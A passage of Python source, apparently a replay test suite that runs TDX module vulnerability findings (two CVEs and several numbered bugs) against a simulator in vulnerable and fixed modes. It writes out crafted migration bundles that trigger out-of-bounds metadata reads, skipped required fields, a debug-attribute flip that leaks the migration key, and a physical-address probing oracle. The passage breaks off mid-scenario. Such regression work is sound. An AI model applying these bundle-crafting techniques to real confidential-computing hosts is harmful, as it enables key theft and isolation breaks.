"""Findings suite: each logic-level finding as a deterministic replay scenario.

A scenario is a declarative spec: engine-mode toggles, an ordered call list
with per-mode expected statuses (always referenced through named status
constants), and final assertions.  Run with mode=vulnerable the toggles are
applied and the expected outcome is EXPLOITED; with mode=fixed everything
stays at the post-fix behavior and the expected outcome is NOT EXPLOITABLE.
The runner also validates every TD's op-state trace against the permission
matrix fixture.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Optional

from . import md_codec as md
from . import status as S
from .catalog import FieldCatalog
from .engine import Bundle, EngineMode, EpochToken, InterruptPolicy, TdxModule
from .envelope import (
    BundleType,
    MigrationSessionKey,
    MigStreamContext,
    decrypt_bundle,
    encrypt_bundle,
)
from .md_codec import MD_CTX_TD, MD_CTX_VP, MdSequence
from .states import OpState, validate_trace
from .td import ATTR_DEBUG, ATTR_MIGRATABLE, ATTR_PERFMON, EventFilter, TdParams, audit_event_filters

U64 = 0xFFFFFFFFFFFFFFFF

# The 8-byte value planted past the sentinel regions for the leak replays;
# mirrors the kind of module address the real leak channel surfaces.
LEAK_SENTINEL = 0x00FFFF9C00004010
LEAK_SENTINEL_OFFSET = 12280


def _expect(label: str, value: int, match: str = "exact") -> "Expect":
    return Expect(label=label, value=value, match=match)


@dataclass(frozen=True)
class Expect:
    label: str
    value: int
    match: str = "exact"

    def matches(self, observed: int) -> bool:
        if self.match == "exact":
            return observed == self.value
        same_class = S.status_class(observed) == S.status_class(self.value)
        same_fatal = bool(observed & S.TDX_FATAL_FLAG_MASK) == bool(self.value & S.TDX_FATAL_FLAG_MASK)
        return same_class and same_fatal


SUCCESS = _expect("TDX_SUCCESS", S.TDX_SUCCESS)
INTERRUPTED = _expect("TDX_INTERRUPTED_RESUMABLE", S.TDX_INTERRUPTED_RESUMABLE)
OP_STATE_INCORRECT = _expect("TDX_OP_STATE_INCORRECT", S.TDX_OP_STATE_INCORRECT)
OPERAND_INVALID_XFAM = _expect(
    "TDX_OPERAND_INVALID:XFAM", S.with_operand(S.TDX_OPERAND_INVALID, S.OPERAND_ID_XFAM)
)
NOT_READABLE = _expect("TDX_METADATA_FIELD_NOT_READABLE", S.TDX_METADATA_FIELD_NOT_READABLE)
VCPUS_NOT_MIGRATED = _expect("TDX_SOME_VCPUS_NOT_MIGRATED", S.TDX_SOME_VCPUS_NOT_MIGRATED)
FATAL_FIELD_ID_INCORRECT = _expect(
    "fatal TDX_METADATA_FIELD_ID_INCORRECT",
    S.as_fatal(S.TDX_METADATA_FIELD_ID_INCORRECT), "class",
)
FATAL_LIST_OVERFLOW = _expect(
    "fatal TDX_METADATA_LIST_OVERFLOW", S.as_fatal(S.TDX_METADATA_LIST_OVERFLOW), "class"
)
FATAL_REQUIRED_MISSING = _expect(
    "fatal TDX_REQUIRED_METADATA_FIELD_MISSING",
    S.as_fatal(S.TDX_REQUIRED_METADATA_FIELD_MISSING), "class",
)
FATAL_VALUE_NOT_VALID = _expect(
    "fatal TDX_METADATA_FIELD_VALUE_NOT_VALID",
    S.as_fatal(S.TDX_METADATA_FIELD_VALUE_NOT_VALID), "class",
)
TD_FATAL = _expect("TDX_TD_FATAL", S.TDX_TD_FATAL)
EVENT_FILTER_INVALID_2 = _expect(
    "TDX_EVENT_FILTER_INVALID[2]", S.with_operand(S.TDX_EVENT_FILTER_INVALID, 2)
)
EVENT_FILTER_INVALID_1 = _expect(
    "TDX_EVENT_FILTER_INVALID[1]", S.with_operand(S.TDX_EVENT_FILTER_INVALID, 1)
)
OPERAND_INVALID_RCX = _expect(
    "TDX_OPERAND_INVALID:RCX", S.with_operand(S.TDX_OPERAND_INVALID, S.OPERAND_ID_RCX)
)
OPERAND_INVALID_TDR = _expect(
    "TDX_OPERAND_INVALID:TDR", S.with_operand(S.TDX_OPERAND_INVALID, S.OPERAND_ID_TDR)
)
SERVTD_UUID_MISMATCH = _expect("TDX_SERVTD_UUID_MISMATCH", S.TDX_SERVTD_UUID_MISMATCH)
HKID_NOT_FREE = _expect(
    "TDX_HKID_NOT_FREE:RCX", S.with_operand(S.TDX_HKID_NOT_FREE, S.OPERAND_ID_RCX)
)
MAX_EXPORTS = _expect("TDX_MAX_EXPORTS_EXCEEDED", S.TDX_MAX_EXPORTS_EXCEEDED)


@dataclass
class Step:
    call: str
    run: Callable[[TdxModule, dict], Optional[int]]
    expect: dict[str, Expect]


@dataclass
class Check:
    label: str
    run: Callable[[TdxModule, dict], bool]
    expect: dict[str, bool]


@dataclass
class Scenario:
    name: str
    title: str
    toggles: dict[str, str]
    setup: Callable[[TdxModule], dict]
    steps: list[Step]
    checks: list[Check]


@dataclass
class ScenarioRun:
    name: str
    mode: str
    ok: bool
    verdict: str
    transcript: str


# --- bundle crafting ---------------------------------------------------------

def collect_sequences(lists_bytes: list[bytes]) -> list[MdSequence]:
    seqs: list[MdSequence] = []
    for data in lists_bytes:
        seqs.extend(md.parse_list(data).sequences)
    return seqs


def repack(sequences: list[MdSequence]) -> list[bytes]:
    """Greedy repack of sequences into fresh 4KB lists."""
    lists: list[bytes] = []
    pending: list[MdSequence] = []
    room = md.LIST_BYTES - md.LIST_HEADER_BYTES
    for seq in sequences:
        if seq.size > room and pending:
            lists.append(md.build_list(pending).to_bytes())
            pending = []
            room = md.LIST_BYTES - md.LIST_HEADER_BYTES
        pending.append(seq)
        room -= seq.size
    if pending:
        lists.append(md.build_list(pending).to_bytes())
    return lists


def zero_mask_entry(sequences: list[MdSequence], catalog: FieldCatalog,
                    context_code: int, name: str) -> list[MdSequence]:
    """Rewrite the named entry's sequence to carry a zero write mask."""
    target = catalog.by_name(context_code, name)
    out = []
    for seq in sequences:
        fid = md.decode_field_id(seq.header_raw)
        if fid.class_code == target.class_code and target.covers(fid.field_code):
            header = md.decode_field_id(seq.header_raw)
            header.write_mask_valid = 1
            out.append(MdSequence(header.to_raw(), [0] + list(seq.elements)))
        else:
            out.append(seq)
    return out


def set_entry_value(sequences: list[MdSequence], catalog: FieldCatalog, context_code: int,
                    name: str, position: int, value: int) -> list[MdSequence]:
    """Overwrite one element of the named entry inside its sequence."""
    target = catalog.by_name(context_code, name)
    out = []
    for seq in sequences:
        fid = md.decode_field_id(seq.header_raw)
        if fid.class_code == target.class_code and target.covers(fid.field_code):
            start = fid.field_code - target.field_code
            index = position - start
            if 0 <= index < len(seq.elements):
                elements = list(seq.elements)
                elements[index] = value
                out.append(MdSequence(seq.header_raw, elements))
                continue
        out.append(seq)
    return out


def seal(key_qwords: list[int], bundle_type: BundleType, lists_bytes: list[bytes],
         stream_index: int = 0, iv_counter: int = 0x1000) -> Bundle:
    """Encrypt attacker-crafted lists with the known session key."""
    ctx = MigStreamContext(stream_index, MigrationSessionKey.from_quadwords(key_qwords))
    ctx.iv_counter = iv_counter
    mbmd, ciphertext = encrypt_bundle(ctx, bundle_type, lists_bytes)
    return Bundle(mbmd, ciphertext)


def crafted_vp_list(extra_oob_header: bool, num_fields: int = 512) -> bytes:
    """The malicious vp-state list: an underflowing write-mask walk at the tail.

    Layout: two filler sequences end exactly at offset 4080, then an n-field
    write-mask sequence whose header and mask element are the last in-bounds
    16 bytes.  list_buff_size=1 drives the header-residue wrap, and the
    per-field mask deduction keeps the walk going past the list: 16 bytes per
    field, 8KB at the 512-field maximum.  With the extra out-of-place header
    (one more claimed sequence) the walk's next header read ends exactly
    16 * num_fields bytes past the list end.
    """
    filler1 = MdSequence(md.make_sequence_header(MD_CTX_VP, 0x12, 0, num_fields=506), [0] * 506)
    filler2 = MdSequence(md.make_sequence_header(MD_CTX_VP, 0x11, 0x28), [0])
    crafted = MdSequence(
        md.make_sequence_header(MD_CTX_VP, 0x12, 0, num_fields=num_fields, write_mask_valid=True),
        [U64],
    )
    num_sequences = 4 if extra_oob_header else 3
    header = md.MdListHeader(list_buff_size=1, num_sequences=num_sequences)
    body = header.to_bytes() + filler1.to_bytes() + filler2.to_bytes() + crafted.to_bytes()
    return body.ljust(md.LIST_BYTES, b"\x00")


def list_header_underflow_list() -> bytes:
    """List-header underflow shape: size field 0, one sequence claiming 511 fields.

    Only 510 element slots fit behind the header, so honoring the claim walks
    the final element read exactly one slot past the list.
    """
    seq_header = md.make_sequence_header(MD_CTX_TD, 0x1C, 0, num_fields=511)
    header = md.MdListHeader(list_buff_size=0, num_sequences=1)
    body = header.to_bytes() + seq_header.to_bytes(8, "little") + b"\x00" * 4080
    assert len(body) == md.LIST_BYTES
    return body


# --- shared environment builders ----------------------------------------------

def _exchange_key(m: TdxModule, migtd, handle) -> list[int]:
    key_entry = m.catalog.by_name(MD_CTX_TD, "MIG_DEC_KEY")
    key = [m.rng.getrandbits(64) | 1 for _ in range(4)]
    for i, quadword in enumerate(key):
        status, _ = m.tdg_servtd_wr(migtd, handle, key_entry.field_id_for(0) + i, quadword)
        assert status == S.TDX_SUCCESS, S.status_str(status)
    return key


def standard_setup(m: TdxModule, num_vcpus: int = 1, num_pages: int = 2) -> dict:
    """Build a migratable source TD, a destination template, and exchange the MSK."""
    status, src = m.build_td(TdParams(attributes=ATTR_MIGRATABLE), num_vcpus, num_pages)
    assert status == S.TDX_SUCCESS, S.status_str(status)
    migtd = m.new_servtd()
    m.tdh_mig_stream_create(src)
    _, src_handle = m.tdh_servtd_bind(src, 0, migtd)
    key = _exchange_key(m, migtd, src_handle)

    env = {"src": src, "migtd": migtd, "src_handle": src_handle, "key": key}
    env.update(new_template(m, env))
    status, bundle = m.tdh_export_state_immutable(src)
    assert status == S.TDX_SUCCESS
    env["bundle_immutable"] = bundle
    return env


def new_template(m: TdxModule, env: dict) -> dict:
    """A fresh destination template TD bound to the same migration TD."""
    status, dst = m.tdh_mng_create(hkid=m.kot.free_hkids()[0])
    assert status == S.TDX_SUCCESS
    for _ in range(6):
        m.tdh_mng_addcx(dst)
    m.tdh_mig_stream_create(dst)
    _, handle = m.tdh_servtd_bind(dst, 0, env["migtd"])
    key_entry = m.catalog.by_name(MD_CTX_TD, "MIG_DEC_KEY")
    for i, quadword in enumerate(env["key"]):
        m.tdg_servtd_wr(env["migtd"], handle, key_entry.field_id_for(0) + i, quadword)
    return {"dst": dst, "dst_handle": handle}


def export_blackout(m: TdxModule, env: dict) -> None:
    """Pause the source and capture the mutable TD and per-VP bundles."""
    src = env["src"]
    if "bundle_immutable" not in env:
        _, env["bundle_immutable"] = m.tdh_export_state_immutable(src)
    status = m.tdh_export_pause(src)
    assert status == S.TDX_SUCCESS
    _, env["bundle_td"] = m.tdh_export_state_td(src)
    env["bundle_vps"] = []
    for i in range(len(src.vps)):
        _, bundle = m.tdh_export_state_vp(src, i)
        env["bundle_vps"].append(bundle)
    _, env["start_token"] = m.tdh_export_track(src, start=True)


def import_to_state_import(m: TdxModule, env: dict, dst=None) -> None:
    """Benign import of the immutable and mutable-TD bundles, VPs created."""
    dst = dst or env["dst"]
    status = m.tdh_import_state_immutable(dst, env["bundle_immutable"])
    assert status == S.TDX_SUCCESS, S.status_str(status)
    status = m.tdh_import_state_td(dst, env["bundle_td"])
    assert status == S.TDX_SUCCESS, S.status_str(status)
    for i in range(len(env["src"].vps)):
        m.tdh_vp_create(dst)
        m.tdh_vp_addcx(dst, i)


def finish_import(m: TdxModule, env: dict, dst=None) -> int:
    dst = dst or env["dst"]
    for i in range(len(env["src"].vps)):
        status = m.tdh_import_state_vp(dst, i, env["bundle_vps"][i])
        if status != S.TDX_SUCCESS:
            return status
    for call in (
        lambda: m.tdh_import_track(dst, env["start_token"]),
        lambda: m.tdh_import_commit(dst),
        lambda: m.tdh_import_end(dst),
    ):
        status = call()
        if status != S.TDX_SUCCESS:
            return status
    return S.TDX_SUCCESS


def decrypted_lists(m: TdxModule, env: dict, bundle: Bundle) -> list[bytes]:
    ctx = MigStreamContext(0, MigrationSessionKey.from_quadwords(env["key"]))
    status, lists = decrypt_bundle(ctx, bundle.mbmd, bundle.data)
    assert status == S.TDX_SUCCESS
    return lists


# --- the scenarios -------------------------------------------------------------

def _scenario_v1() -> Scenario:
    key_id = 0x9810000300000010
    attr_id = 0x1110000300000000

    def setup(m: TdxModule) -> dict:
        return standard_setup(m, num_vcpus=1)

    steps = [
        Step(
            "tdh_import_state_immutable dst (interrupt storm pending)",
            lambda m, e: m.tdh_import_state_immutable(
                e["dst"], e["bundle_immutable"], policy=InterruptPolicy.after(1)
            ),
            {"vulnerable": INTERRUPTED, "fixed": INTERRUPTED},
        ),
        Step(
            "tdh_mng_init dst (attributes.debug, invalid xfam)",
            lambda m, e: m.tdh_mng_init(e["dst"], TdParams(attributes=ATTR_DEBUG, xfam=0)),
            {"vulnerable": OPERAND_INVALID_XFAM, "fixed": OP_STATE_INCORRECT},
        ),
        Step(
            "tdh_import_state_immutable dst (resume)",
            lambda m, e: m.tdh_import_state_immutable(e["dst"], e["bundle_immutable"], resume=True),
            {"vulnerable": SUCCESS, "fixed": SUCCESS},
        ),
        Step(
            "tdh_mng_rd dst ATTRIBUTES",
            lambda m, e: _stash(e, "attrs", m.tdh_mng_rd(e["dst"], attr_id)),
            {"vulnerable": SUCCESS, "fixed": SUCCESS},
        ),
        Step(
            "tdh_mng_rd dst MIG_DEC_KEY --count=4",
            lambda m, e: _stash(e, "key_read", m.tdh_mng_rd(e["dst"], key_id, count=4)),
            {"vulnerable": SUCCESS, "fixed": NOT_READABLE},
        ),
        Step(
            "tdh_import_track dst (start token)",
            lambda m, e: m.tdh_import_track(e["dst"], EpochToken(start=True, epoch=1)),
            {"vulnerable": SUCCESS, "fixed": VCPUS_NOT_MIGRATED},
        ),
    ]
    checks = [
        Check(
            "destination ATTRIBUTES is 0x1 (debug)",
            lambda m, e: e.get("attrs") == [1],
            {"vulnerable": True, "fixed": False},
        ),
        Check(
            "all four MIG_DEC_KEY quadwords leaked to the host",
            lambda m, e: e.get("key_read") == e["key"],
            {"vulnerable": True, "fixed": False},
        ),
        Check(
            "num_vcpus zeroed by the interleaved init",
            lambda m, e: e["dst"].num_vcpus == 0,
            {"vulnerable": True, "fixed": False},
        ),
        Check(
            "import_track passed with zero vcpus (POST_IMPORT)",
            lambda m, e: e["dst"].op_state is OpState.POST_IMPORT,
            {"vulnerable": True, "fixed": False},
        ),
    ]
    return Scenario(
        name="cve-2025-30513",
        title="migratable TD becomes debuggable during interrupted immutable import",
        toggles={"v1": "vulnerable"},
        setup=setup,
        steps=steps,
        checks=checks,
    )


def _stash(env: dict, key: str, result) -> int:
    status, value = result
    env[key] = value
    return status


def _scenario_v2() -> Scenario:
    def setup(m: TdxModule) -> dict:
        env = standard_setup(m, num_vcpus=1)
        export_blackout(m, env)
        import_to_state_import(m, env)
        env.update({"dst2": new_template(m, env)["dst"]})
        import_to_state_import(m, env, dst=env["dst2"])
        env["option1"] = seal(env["key"], BundleType.VP, [crafted_vp_list(extra_oob_header=True)])
        env["option2"] = seal(env["key"], BundleType.VP, [crafted_vp_list(extra_oob_header=False)])
        m.arena_plants = {LEAK_SENTINEL_OFFSET: LEAK_SENTINEL}
        return env

    def run_option1(m: TdxModule, e: dict) -> int:
        status = m.tdh_import_state_vp(e["dst"], 0, e["option1"])
        e["opt1_arenas"] = list(m.last_import_arenas)
        e["opt1_regs"] = dict(m.vmm_regs)
        return status

    def run_option2(m: TdxModule, e: dict) -> int:
        status = m.tdh_import_state_vp(e["dst2"], 0, e["option2"])
        e["opt2_arenas"] = list(m.last_import_arenas)
        return status

    def xbuff_leaked(m: TdxModule, e: dict) -> bool:
        if not e.get("opt2_arenas"):
            return False
        arena = e["opt2_arenas"][0]
        xbuff = m.catalog.by_name(MD_CTX_VP, "XBUFF")
        values = e["dst2"].vps[0].values(xbuff)
        # Field i of the crafted walk copies the qword at 4096 + 16*i.
        copied = [arena.peek_u64(4096 + 16 * i) for i in range(512)]
        return values[:512] == copied and any(copied)

    steps = [
        Step(
            "tdh_import_state_vp dst (crafted bundle, option 1: register exfil)",
            run_option1,
            {"vulnerable": FATAL_FIELD_ID_INCORRECT, "fixed": FATAL_LIST_OVERFLOW},
        ),
        Step(
            "tdh_import_state_vp dst2 (crafted bundle, option 2: exfil via XBUFF)",
            run_option2,
            {"vulnerable": FATAL_REQUIRED_MISSING, "fixed": FATAL_LIST_OVERFLOW},
        ),
    ]
    checks = [
        Check(
            "extended error info 1 carries the planted sentinel",
            lambda m, e: e.get("opt1_regs", {}).get("rcx") == LEAK_SENTINEL,
            {"vulnerable": True, "fixed": False},
        ),
        Check(
            "maximum out-of-bounds span is exactly 8192 bytes",
            lambda m, e: max(a.max_oob_span() for a in e.get("opt1_arenas", [])) == 8192
            if e.get("opt1_arenas") else False,
            {"vulnerable": True, "fixed": False},
        ),
        Check(
            "out-of-bounds qwords copied into attacker-readable XBUFF state",
            xbuff_leaked,
            {"vulnerable": True, "fixed": False},
        ),
        Check(
            "no out-of-bounds arena reads logged",
            lambda m, e: all(
                not a.oob_reads()
                for a in e.get("opt1_arenas", []) + e.get("opt2_arenas", [])
            ),
            {"vulnerable": False, "fixed": True},
        ),
    ]
    return Scenario(
        name="cve-2025-32007",
        title="metadata sequence parsing underflow reads 8KB past the list",
        toggles={"v2": "vulnerable", "bug1": "vulnerable"},
        setup=setup,
        steps=steps,
        checks=checks,
    )


def _scenario_bug1() -> Scenario:
    def setup(m: TdxModule) -> dict:
        env = standard_setup(m, num_vcpus=1)
        export_blackout(m, env)
        status = m.tdh_import_state_immutable(env["dst"], env["bundle_immutable"])
        assert status == S.TDX_SUCCESS
        env["crafted"] = seal(env["key"], BundleType.TD, [list_header_underflow_list()])
        return env

    def run_import(m: TdxModule, e: dict) -> int:
        status = m.tdh_import_state_td(e["dst"], e["crafted"])
        e["arenas"] = list(m.last_import_arenas)
        e["results"] = list(m.last_write_results)
        return status

    steps = [
        Step(
            "tdh_import_state_td dst (list_buff_size = 0)",
            run_import,
            {"vulnerable": FATAL_REQUIRED_MISSING, "fixed": FATAL_LIST_OVERFLOW},
        ),
    ]
    checks = [
        Check(
            "header residue wrapped to 65528 (16-bit oracle)",
            lambda m, e: e["results"][0].initial_remaining == 65528,
            {"vulnerable": True, "fixed": False},
        ),
        Check(
            "walk read past the list end",
            lambda m, e: bool(e["arenas"][0].oob_reads()),
            {"vulnerable": True, "fixed": False},
        ),
        Check(
            "rejected before any sequence read (header read only)",
            lambda m, e: e["arenas"][0].read_count == 1,
            {"vulnerable": False, "fixed": True},
        ),
    ]
    return Scenario(
        name="bug-1-list-header-underflow",
        title="metadata list header size wraps the 16-bit residue",
        toggles={"bug1": "vulnerable"},
        setup=setup,
        steps=steps,
        checks=checks,
    )


def _scenario_bug2() -> Scenario:
    def setup(m: TdxModule) -> dict:
        env = standard_setup(m, num_vcpus=1)
        export_blackout(m, env)
        catalog = m.catalog
        imm_lists = decrypted_lists(m, env, env["bundle_immutable"])
        vp_lists = decrypted_lists(m, env, env["bundle_vps"][0])

        # One template TD per table row being demonstrated.
        for name in ("dst_eptp", "dst_xcr0", "dst_values", "dst_export"):
            env[name] = new_template(m, env)["dst"]

        td_seqs = collect_sequences(imm_lists[1:])
        eptp_skip = [imm_lists[0]] + repack(zero_mask_entry(td_seqs, catalog, MD_CTX_TD, "EPTP"))
        env["b_eptp"] = seal(env["key"], BundleType.IMMUTABLE, eptp_skip)

        vp_seqs = collect_sequences(vp_lists)
        xcr0_skip = repack(zero_mask_entry(vp_seqs, catalog, MD_CTX_VP, "XCR0"))
        env["b_xcr0"] = seal(env["key"], BundleType.VP, xcr0_skip)

        value_seqs = td_seqs
        for name in ("NUM_VCPUS", "TSC_FREQUENCY", "HP_LOCK_TIMEOUT"):
            value_seqs = zero_mask_entry(value_seqs, catalog, MD_CTX_TD, name)
        env["b_values"] = seal(
            env["key"], BundleType.IMMUTABLE, [imm_lists[0]] + repack(value_seqs)
        )

        export_seqs = set_entry_value(td_seqs, catalog, MD_CTX_TD, "EXPORT_COUNT", 0, 0x80000000)
        env["b_export"] = seal(
            env["key"], BundleType.IMMUTABLE, [imm_lists[0]] + repack(export_seqs)
        )
        return env

    def import_eptp_skip(m: TdxModule, e: dict) -> int:
        status = m.tdh_import_state_immutable(e["dst_eptp"], e["b_eptp"])
        e["eptp_regs"] = dict(m.vmm_regs)
        return status

    def import_xcr0(m: TdxModule, e: dict) -> int:
        import_to_state_import(m, e, dst=e["dst_xcr0"])
        return m.tdh_import_state_vp(e["dst_xcr0"], 0, e["b_xcr0"])

    def enter_after_xcr0_skip(m: TdxModule, e: dict) -> int:
        dst = e["dst_xcr0"]
        m.tdh_import_track(dst, e["start_token"])
        m.tdh_import_commit(dst)
        return m.tdh_vp_enter(dst, 0)

    def values_track(m: TdxModule, e: dict) -> int:
        return m.tdh_import_track(e["dst_values"], EpochToken(start=True, epoch=99))

    def export_capped(m: TdxModule, e: dict) -> int:
        dst = e["dst_export"]
        status = m.tdh_import_state_immutable(dst, e["b_export"])
        if status != S.TDX_SUCCESS:
            return status
        m.tdh_import_state_td(dst, e["bundle_td"])
        m.tdh_vp_create(dst)
        m.tdh_vp_addcx(dst, 0)
        m.tdh_import_state_vp(dst, 0, e["bundle_vps"][0])
        m.tdh_import_track(dst, e["start_token"])
        m.tdh_import_commit(dst)
        m.tdh_import_end(dst)
        status, _ = m.tdh_export_state_immutable(dst)
        return status

    steps = [
        Step(
            "tdh_import_state_immutable dst (EPTP skipped via zero write mask)",
            import_eptp_skip,
            {"vulnerable": SUCCESS, "fixed": FATAL_REQUIRED_MISSING},
        ),
        Step(
            "tdh_mem_sept_add dst (secure page-table walk)",
            lambda m, e: m.tdh_mem_sept_add(e["dst_eptp"], 0x1000),
            {"vulnerable": TD_FATAL, "fixed": OP_STATE_INCORRECT},
        ),
        Step(
            "tdh_import_state_vp dst2 (XCR0 skipped via zero write mask)",
            import_xcr0,
            {"vulnerable": SUCCESS, "fixed": FATAL_REQUIRED_MISSING},
        ),
        Step(
            "tdh_vp_enter dst2 vp0",
            enter_after_xcr0_skip,
            {"vulnerable": TD_FATAL, "fixed": OP_STATE_INCORRECT},
        ),
        Step(
            "tdh_import_state_immutable dst3 (NUM_VCPUS/TSC_FREQUENCY/HP_LOCK_TIMEOUT skipped)",
            lambda m, e: m.tdh_import_state_immutable(e["dst_values"], e["b_values"]),
            {"vulnerable": SUCCESS, "fixed": FATAL_REQUIRED_MISSING},
        ),
        Step(
            "tdh_import_track dst3 (start token, no VPs imported)",
            values_track,
            {"vulnerable": SUCCESS, "fixed": OP_STATE_INCORRECT},
        ),
        Step(
            "import EXPORT_COUNT=0x80000000 then tdh_export_state_immutable dst4",
            export_capped,
            {"vulnerable": MAX_EXPORTS, "fixed": MAX_EXPORTS},
        ),
    ]
    checks = [
        Check(
            "skipped EPTP left at its zero init value",
            lambda m, e: e["dst_eptp"].eptp_raw == 0,
            {"vulnerable": True, "fixed": True},
        ),
        Check(
            "SEPT walk froze the TD (machine-check analog)",
            lambda m, e: e["dst_eptp"].fatal,
            {"vulnerable": True, "fixed": False},
        ),
        Check(
            "completion failure names the missing field (EPTP)",
            lambda m, e: e.get("eptp_regs", {}).get("rcx")
            == m.catalog.by_name(MD_CTX_TD, "EPTP").field_id_raw
            and e["dst_eptp"].op_state is OpState.FAILED_IMPORT,
            {"vulnerable": False, "fixed": True},
        ),
        Check(
            "vp_enter froze the TD on xcr0 without x87",
            lambda m, e: e["dst_xcr0"].fatal,
            {"vulnerable": True, "fixed": False},
        ),
        Check(
            "import completed with out-of-range zeros in TSC_FREQUENCY/HP_LOCK_TIMEOUT",
            lambda m, e: e["dst_values"].tsc_frequency == 0
            and e["dst_values"].hp_lock_timeout == 0
            and e["dst_values"].op_state is not OpState.FAILED_IMPORT,
            {"vulnerable": True, "fixed": False},
        ),
        Check(
            "POST_IMPORT reached with zero imported VPs",
            lambda m, e: e["dst_values"].op_state is OpState.POST_IMPORT
            and e["dst_values"].num_vcpus == 0,
            {"vulnerable": True, "fixed": False},
        ),
    ]
    return Scenario(
        name="bug-2-skippable-required-entries",
        title="required metadata entries skipped via zero write masks",
        toggles={"bug2": "vulnerable"},
        setup=setup,
        steps=steps,
        checks=checks,
    )


def _scenario_bug3() -> Scenario:
    def setup(m: TdxModule) -> dict:
        status, td = m.tdh_mng_create(hkid=m.kot.free_hkids()[0])
        assert status == S.TDX_SUCCESS
        m.tdh_mng_key_config(td)
        for _ in range(6):
            m.tdh_mng_addcx(td)
        params = TdParams(attributes=ATTR_PERFMON)
        filters_a = [
            EventFilter(event_select=1, umask=1).raw,
            EventFilter(event_select=2, umask=2).raw,
            EventFilter(event_select=3, umask=0x1FF).raw,  # umask over 8 bits
        ]
        filters_b = [
            EventFilter(event_select=5, umask=5).raw,
            EventFilter(event_select=6, negative=1).raw,   # negative set
        ] + [0] * 4
        return {"td": td, "params": params, "filters_a": filters_a, "filters_b": filters_b}

    steps = [
        Step(
            "tdh_mng_init td (3 filters, third illegal)",
            lambda m, e: m.tdh_mng_init(
                e["td"], e["params"], event_filtering=True,
                event_filters_num=3, event_filters=e["filters_a"],
            ),
            {"vulnerable": EVENT_FILTER_INVALID_2, "fixed": EVENT_FILTER_INVALID_2},
        ),
        Step(
            "tdh_mng_init td (count 6, second illegal)",
            lambda m, e: m.tdh_mng_init(
                e["td"], e["params"], event_filtering=True,
                event_filters_num=6, event_filters=e["filters_b"],
            ),
            {"vulnerable": EVENT_FILTER_INVALID_1, "fixed": EVENT_FILTER_INVALID_1},
        ),
        Step(
            "tdh_mng_init td (event filtering disabled)",
            lambda m, e: m.tdh_mng_init(e["td"], e["params"], event_filtering=False),
            {"vulnerable": SUCCESS, "fixed": SUCCESS},
        ),
    ]
    checks = [
        Check(
            "filter array fails the sortedness audit with filters_num > 0",
            lambda m, e: (lambda a: a["count"] > 0 and not a["sorted"])(
                audit_event_filters(e["td"])
            ),
            {"vulnerable": True, "fixed": False},
        ),
        Check(
            "stale and uninitialized entries are live",
            lambda m, e: (lambda a: a["zero_entries"] > 0)(audit_event_filters(e["td"])),
            {"vulnerable": True, "fixed": False},
        ),
        Check(
            "filters_num reset to 0 after every failure",
            lambda m, e: e["td"].event_filters_num == 0,
            {"vulnerable": False, "fixed": True},
        ),
    ]
    return Scenario(
        name="bug-3-event-filter-init",
        title="illegal, stale, and unsorted event filter initialization",
        toggles={"bug3": "vulnerable"},
        setup=setup,
        steps=steps,
        checks=checks,
    )


def _scenario_bug4() -> Scenario:
    def setup(m: TdxModule) -> dict:
        start = m.cpuid.lookup_index(0x80000002, 0xFFFFFFFF)
        return {"start_field": m.cpuid.field_id_for(start)}

    def run_next(m: TdxModule, e: dict) -> int:
        from .catalog import next_cpuid_entry

        e["result"] = next_cpuid_entry(m.cpuid, e["start_field"], m.mode.bug4)
        return S.TDX_SUCCESS

    steps = [
        Step(
            "md_get_next_cpuid_value_entry from (0x80000002, 0xffffffff)",
            run_next,
            {"vulnerable": SUCCESS, "fixed": SUCCESS},
        ),
    ]
    checks = [
        Check(
            "search returned MD_FIELD_ID_NA",
            lambda m, e: e["result"] == md.MD_FIELD_ID_NA,
            {"vulnerable": True, "fixed": True},
        ),
        Check(
            "exactly one out-of-bounds index access (index 79)",
            lambda m, e: m.cpuid.oob_accesses() == [79],
            {"vulnerable": True, "fixed": False},
        ),
        Check(
            "no out-of-bounds index accesses",
            lambda m, e: m.cpuid.oob_accesses() == [],
            {"vulnerable": False, "fixed": True},
        ),
    ]
    return Scenario(
        name="bug-4-cpuid-lookup-oob",
        title="next-entry search indexes one past the CPUID lookup array",
        toggles={"bug4": "vulnerable"},
        setup=setup,
        steps=steps,
        checks=checks,
    )


def _scenario_bug6() -> Scenario:
    from .td import make_binding_handle

    def setup(m: TdxModule) -> dict:
        env = standard_setup(m, num_vcpus=1)
        status, foreign = m.build_td(TdParams())
        assert status == S.TDX_SUCCESS
        migtd = env["migtd"]
        env["probe_empty"] = make_binding_handle(0, 0xDEAD, migtd.uuid[0])
        env["probe_foreign"] = make_binding_handle(0, foreign.tdr_page, migtd.uuid[0])
        return env

    steps = [
        Step(
            "tdg_servtd_rd probe (no TDR at address)",
            lambda m, e: _stash(e, "v_empty", m.tdg_servtd_rd(e["migtd"], e["probe_empty"], 0x9810000300000010)),
            {"vulnerable": OPERAND_INVALID_TDR, "fixed": OPERAND_INVALID_TDR},
        ),
        Step(
            "tdg_servtd_rd probe (foreign TDR, uuid mismatch)",
            lambda m, e: _stash(e, "v_foreign", m.tdg_servtd_rd(e["migtd"], e["probe_foreign"], 0x9810000300000010)),
            {"vulnerable": SERVTD_UUID_MISMATCH, "fixed": OPERAND_INVALID_TDR},
        ),
        Step(
            "tdg_servtd_rd dst MIG_DEC_KEY[0] (bound migration TD)",
            lambda m, e: _stash(e, "key0", m.tdg_servtd_rd(e["migtd"], e["dst_handle"], 0x9810000300000010)),
            {"vulnerable": SUCCESS, "fixed": SUCCESS},
        ),
    ]

    def probes_distinguishable(m: TdxModule, e: dict) -> bool:
        empty_status = e.get("_step_status_0")
        foreign_status = e.get("_step_status_1")
        return empty_status != foreign_status

    checks = [
        Check(
            "probe statuses reveal whether a TDR lives at the address",
            probes_distinguishable,
            {"vulnerable": True, "fixed": False},
        ),
        Check(
            "bound migration TD reads back the key quadword it wrote",
            lambda m, e: e.get("key0") == e["key"][0],
            {"vulnerable": True, "fixed": True},
        ),
    ]
    return Scenario(
        name="bug-6-binding-handle-oracle",
        title="binding-handle probes leak TDR host physical addresses",
        toggles={"bug6": "vulnerable"},
        setup=setup,
        steps=steps,
        checks=checks,
    )


def _scenario_bug8() -> Scenario:
    def setup(m: TdxModule) -> dict:
        return {"kot_size": len(m.kot)}

    def drain(m: TdxModule, e: dict) -> int:
        status = S.TDX_SUCCESS
        for hkid in range(len(m.kot)):
            status = m.tdh_sys_config(hkid, tdmr_entries=[0x1001])  # misaligned
        return status

    steps = [
        Step(
